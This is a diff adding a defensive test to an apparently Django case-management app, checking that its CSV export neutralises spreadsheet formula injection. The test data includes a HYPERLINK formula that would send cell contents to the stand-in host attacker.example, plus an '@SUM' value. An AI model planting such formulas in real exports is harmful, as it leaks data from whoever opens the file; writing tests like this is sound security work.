@@ -200,3 +200,18 @@ def test_pagination_keeps_the_filters(client, world, monkeypatch):
     assert "sla_state=overdue&amp;page=2" in response.content.decode()
     second = get(client, world, world["supervisor"], sla_state="overdue", page=2)
     assert len(codes(second)) == 1
+
+
+def test_csv_export_neutralises_text_a_spreadsheet_would_run(client, world):
+    """OWASP CSV Injection: a unit or officer named ``=…``/``@…`` is written with a leading ``'``."""
+    agency = world["province_overdue"].agency
+    agency.name = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm")'
+    agency.save(update_fields=["name"])
+    officer = world["province_overdue"].current_step.owner
+    officer.first_name, officer.last_name = "@SUM(1+1)", ""
+    officer.save(update_fields=["first_name", "last_name"])
+    response = get(client, world, world["supervisor"], format="csv", sla_state="overdue")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    row = {r[0]: r for r in rows[1:]}[world["province_overdue"].code]
+    assert row[2] == "'" + agency.name and row[4] == "'@SUM(1+1)"
+    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
